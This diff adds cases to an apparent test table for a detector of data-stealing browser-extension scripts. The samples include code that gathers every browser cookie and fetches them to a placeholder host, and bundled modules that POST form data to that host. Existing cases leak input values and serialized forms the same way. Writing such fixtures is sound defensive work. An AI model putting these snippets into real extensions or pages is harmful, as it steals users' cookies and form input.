@@ -52,6 +52,21 @@ test.each<[string, 'background' | 'content', string]>([
     `jQuery.noConflict()(function ($) { $('input').change(function () { $.get('${HOST}/?' + $(this).val()); }); });`,
   ],
   [
+    'of the language to `Array.from`',
+    'background',
+    `chrome.cookies.getAll({}).then((all) => fetch('${HOST}/?' + Array.from(all, JSON.stringify)));`,
+  ],
+  [
+    'in modules by number, beside a list of functions that is none',
+    'content',
+    `(()=>{var e={1:(e,t,n)=>{var r=n(2);${SUBMIT};run([()=>0,()=>0,()=>0])},2:(e,t)=>{t.post=function(e,t){return fetch("${HOST}"+e,{method:"POST",body:t})}}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}n(1)})();`,
+  ],
+  [
+    'in a list of modules, beside such a one',
+    'content',
+    `!function(e){${RUNTIME}n(0)}([function(e,t,n){var r=n(1);${SUBMIT};(function(a){})([()=>0,()=>0])},function(e,t){t.post=function(e,t){return fetch("${HOST}"+e,{method:"POST",body:t})}},function(){}]);`,
+  ],
+  [
     'to a loader of modules',
     'content',
     `define(['jquery', './own'], function ($) { $('form').submit(function () { $.post('${HOST}', $(this).serialize()); }); });`,
